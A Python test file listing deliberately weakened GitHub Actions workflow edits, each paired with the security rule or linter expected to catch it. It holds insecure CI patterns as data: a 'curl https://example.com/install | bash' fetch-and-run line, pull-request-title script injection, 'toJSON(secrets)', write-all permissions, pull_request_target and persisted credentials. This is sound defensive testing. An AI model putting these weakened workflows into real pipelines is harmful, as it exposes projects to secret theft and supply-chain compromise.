"""Workflows made worse: each in one place, with who must notice."""

from dataclasses import dataclass
from typing import Final

from tests.repository.workflow_rules import ONLY_SUCCESSES


@dataclass(frozen=True)
class Mutant:
    """A workflow made worse in one place, and who must notice."""

    what: str
    caught_by: str
    file: str
    old: str
    new: str

    def applied_to(self, text: str) -> str:
        """Return a file's text with the change."""
        assert self.old in text, f"{self.what}: nothing to change"
        return text.replace(self.old, self.new, 1)


CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
PULL_REQUEST = "workflows/pull-request.yml"
COMMENT = "workflows/comment.yml"
TRAIN = "workflows/train.yml"
RELEASE = "workflows/release.yml"
ROLLBACK = "workflows/rollback.yml"
SETUP = "actions/setup/action.yml"
NO_PERMISSIONS = "permissions: {}\n"
NO_CREDENTIALS = "          persist-credentials: false\n"
WITH_CREDENTIALS = "        with:\n" + NO_CREDENTIALS
OUR_SETUP = "        uses: $/.github/actions/setup\n"
MUTANTS: Final = [
    Mutant("a branch for a pin", "pinned", PULL_REQUEST, CHECKOUT, "actions/checkout@main"),
    Mutant("a tag for a pin", "pinned", PULL_REQUEST, CHECKOUT, "actions/checkout@v7.0.1"),
    Mutant("half a commit", "pinned", TRAIN, CHECKOUT, "actions/checkout@3d3c42e # v7.0.1"),
    Mutant("a pin without its version", "pinned", TRAIN, CHECKOUT, CHECKOUT.partition(" ")[0]),
    Mutant("a pin of another version", "pinned", TRAIN, "# v7.0.1", "# v7.0.2"),
    Mutant("a commit nobody confirmed", "pinned", TRAIN, "@3d3c42e5", "@3d3c42e6"),
    Mutant("an action nobody confirmed", "pinned", TRAIN, "actions/checkout", "action/checkout"),
    Mutant("an action of the work tree", "pinned", TRAIN, "$/.github", "./.github"),
    Mutant("an action that is not there", "pinned", TRAIN, "actions/setup\n", "actions/set\n"),
    Mutant("write-all", "nothing_on_top", TRAIN, NO_PERMISSIONS, "permissions: write-all\n"),
    Mutant("no permissions on top", "nothing_on_top", TRAIN, NO_PERMISSIONS, ""),
    Mutant(
        "a further scope",
        "only_what_is_needed",
        TRAIN,
        "      contents: write # push",
        "      packages: write # why not\n      contents: write # push",
    ),
    Mutant(
        "write where reading is enough",
        "only_what_is_needed",
        RELEASE,
        "contents: read # check",
        "contents: write # check",
    ),
    Mutant(
        "read-all in a job",
        "only_what_is_needed",
        TRAIN,
        "    permissions:\n      contents: write # push the registry branch\n",
        "    permissions: read-all\n",
    ),
    Mutant(
        "a job without permissions of its own",
        "only_what_is_needed",
        TRAIN,
        "    permissions:\n      contents: write # push the registry branch\n",
        "",
    ),
    Mutant(
        "a scope without a reason",
        "a_reason_for_each_scope",
        RELEASE,
        "packages: write # push the image",
        "packages: write",
    ),
    Mutant(
        "pull_request_target",
        "started_by_what_was_decided",
        PULL_REQUEST,
        "  pull_request:\n",
        "  pull_request_target:\n",
    ),
    Mutant(
        "pull_request_target as well",
        "started_by_what_was_decided",
        TRAIN,
        "on:\n",
        "on:\n  pull_request_target:\n",
    ),
    Mutant(
        "training on every branch",
        "started_by_what_was_decided",
        TRAIN,
        "    branches: [main]\n",
        "    branches: ['**']\n",
    ),
    Mutant(
        "an expression in a script",
        "no_expression_in_a_script",
        PULL_REQUEST,
        "run: make check",
        'run: make check TITLE="${{ github.event.pull_request.title }}"',
    ),
    Mutant(
        "an input in the script of an action",
        "no_expression_in_a_script",
        SETUP,
        "run: make setup",
        "run: make setup PYTHON=python${{ inputs.python-version }}",
    ),
    Mutant(
        "an input in a script",
        "no_expression_in_a_script",
        ROLLBACK,
        '--reason="$REASON"',
        '--reason="${{ inputs.reason }}"',
    ),
    Mutant("no timeout", "ends_in_time", TRAIN, "    timeout-minutes: 60\n", ""),
    Mutant("ten hours", "ends_in_time", TRAIN, "minutes: 60", "minutes: 600"),
    Mutant(
        "a secret for a pull request",
        "nothing_to_steal",
        PULL_REQUEST,
        "${{ github.token }}",
        "${{ secrets.MLFLOW_TRACKING_PASSWORD }}",
    ),
    Mutant(
        "a team's server for a pull request",
        "nothing_to_steal",
        PULL_REQUEST,
        "          PIPELINE__PROMOTION__MODE: disabled",
        "          MLFLOW_TRACKING_URI: ${{ vars.MLFLOW_TRACKING_URI }}",
    ),
    Mutant(
        "a pull request that writes",
        "nothing_to_steal",
        PULL_REQUEST,
        "contents: read # check out; read",
        "pull-requests: write # comment",
    ),
    Mutant(
        "an environment for a pull request",
        "nothing_to_steal",
        PULL_REQUEST,
        "    timeout-minutes: 30\n",
        "    timeout-minutes: 30\n    environment: model-registry\n",
    ),
    Mutant(
        "the code of a pull request with a writing token",
        "nothing_of_the_pull_request_runs",
        COMMENT,
        NO_CREDENTIALS,
        NO_CREDENTIALS + "          ref: ${{ github.event.workflow_run.head_sha }}\n",
    ),
    Mutant(
        "a stranger's files among the code",
        "nothing_of_the_pull_request_runs",
        COMMENT,
        "path: ${{ runner.temp }}/model-report",
        "path: .",
    ),
    Mutant(
        "a comment after every event",
        "nothing_of_the_pull_request_runs",
        COMMENT,
        "github.event.workflow_run.event == 'pull_request' && ",
        "",
    ),
    Mutant(
        "a cache in a release",
        "nothing_kept_where_it_counts",
        RELEASE,
        OUR_SETUP,
        OUR_SETUP + "        with:\n          cache: pip\n",
    ),
    Mutant(
        "a release that may use caches",
        "nothing_kept_where_it_counts",
        RELEASE,
        "cache-mode: none\n",
        "",
    ),
    Mutant(
        "a job of a release that may",
        "nothing_kept_where_it_counts",
        RELEASE,
        "    environment: release\n",
        "    environment: release\n    cache-mode: read\n",
    ),
    Mutant(
        "training with kept packages",
        "nothing_kept_where_it_counts",
        TRAIN,
        "    cache-mode: none\n",
        "",
    ),
    Mutant("credentials in the clone", "no_credentials_left", TRAIN, WITH_CREDENTIALS, ""),
    Mutant("credentials kept", "no_credentials_left", TRAIN, "als: false", "als: true"),
    Mutant(
        "a key in the clone",
        "no_credentials_left",
        TRAIN,
        NO_CREDENTIALS,
        NO_CREDENTIALS + "          token: ${{ github.token }}\n",
    ),
    Mutant("a waiting run is dropped", "waits_or_ends", TRAIN, "  queue: max\n", ""),
    Mutant(
        "a running job is dropped", "waits_or_ends", RELEASE, "progress: false", "progress: true"
    ),
    Mutant(
        "two trainings at once",
        "waits_or_ends",
        TRAIN,
        "  group: train\n",
        "  group: train-${{ github.sha }}\n",
    ),
    Mutant(
        "trainings without order",
        "waits_or_ends",
        TRAIN,
        "concurrency:\n  group: train\n  cancel-in-progress: false\n  queue: max\n",
        "",
    ),
    Mutant(
        "pull requests that pile up",
        "waits_or_ends",
        PULL_REQUEST,
        "progress: true",
        "progress: false",
    ),
    Mutant(
        "two lines",
        "one_line_to_type",
        PULL_REQUEST,
        "run: make check",
        "run: |\n          make check\n          make test",
    ),
    Mutant(
        "a target that is not there",
        "one_line_to_type",
        PULL_REQUEST,
        "run: make check",
        "run: make chekc",
    ),
    Mutant(
        "a module that is not there",
        "one_line_to_type",
        TRAIN,
        "pipeline.experiment_tracking",
        "pipeline.experiment_traking",
    ),
    Mutant(
        "a script that is not there", "one_line_to_type", TRAIN, "run: .ci/tools", "run: .ci/tool"
    ),
    Mutant(
        "somebody's script",
        "one_line_to_type",
        TRAIN,
        "run: .ci/tools",
        "run: curl https://example.com/install | bash",
    ),
    Mutant(
        "a check that is not required",
        "every_check_is_required",
        PULL_REQUEST,
        "workflow-lint, report, image]",
        "workflow-lint, report]",
    ),
    Mutant(
        "a skipped check that passes",
        "every_check_is_required",
        PULL_REQUEST,
        "    if: always() # a skipped check would count as passed\n",
        "",
    ),
    Mutant(
        "a gate that always opens",
        "every_check_is_required",
        PULL_REQUEST,
        f"run: {ONLY_SUCCESSES}",
        "run: grep --version",
    ),
    Mutant(
        "a failure that passes",
        "every_check_is_required",
        PULL_REQUEST,
        "    name: image\n",
        "    name: image\n    continue-on-error: true\n",
    ),
    Mutant(
        "a check that may be skipped",
        "every_check_is_required",
        PULL_REQUEST,
        "    name: image\n",
        "    name: image\n    if: github.actor != 'dependabot[bot]'\n",
    ),
    Mutant(
        "secrets without a place",
        "secrets_have_an_environment",
        RELEASE,
        "    environment: release\n",
        "",
    ),
    Mutant(
        "a secret for every job",
        "secrets_have_an_environment",
        RELEASE,
        "\njobs:\n",
        "  PASSWORD: ${{ secrets.REGISTRY_TOKEN }}\njobs:\n",
    ),
    Mutant(
        "a registry that a fork does not have",
        "works_on_a_fork",
        RELEASE,
        " || 'ghcr.io' }}",
        " }}",
    ),
    Mutant(
        "the registry of one owner",
        "works_on_a_fork",
        RELEASE,
        'run: docker login "$REGISTRY"',
        "run: docker login ghcr.io",
    ),
    Mutant(
        "a step that does not exist",
        "actionlint",
        RELEASE,
        "steps.image.outputs.digest",
        "steps.imag.outputs.digest",
    ),
    Mutant("a job that does not exist", "actionlint", TRAIN, "needs: test", "needs: tests"),
    Mutant("an unquoted word", "actionlint", ROLLBACK, '--reason="$REASON"', "--reason=$REASON"),
    Mutant(
        "a misspelt key", "actionlint", TRAIN, "    timeout-minutes: 60", "    timeout-minute: 60"
    ),
    Mutant(
        "an input that no action has",
        "actionlint",
        PULL_REQUEST,
        "          python-version: ${{ matrix",
        "          python: ${{ matrix",
    ),
    Mutant(
        "somebody's own machine",
        "zizmor",
        TRAIN,
        "runs-on: ubuntu-latest",
        "runs-on: [self-hosted, linux]",
    ),
    Mutant(
        "every secret at once",
        "zizmor",
        TRAIN,
        "${{ secrets.MLFLOW_TRACKING_USERNAME }}",
        "${{ toJSON(secrets) }}",
    ),
    Mutant(
        "an image that moves",
        "zizmor",
        TRAIN,
        "    name: train\n",
        "    name: train\n    container: python:latest\n",
    ),
    Mutant(
        "commands in the log",
        "zizmor",
        TRAIN,
        "\njobs:\n",
        "\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n\njobs:\n",
    ),
]
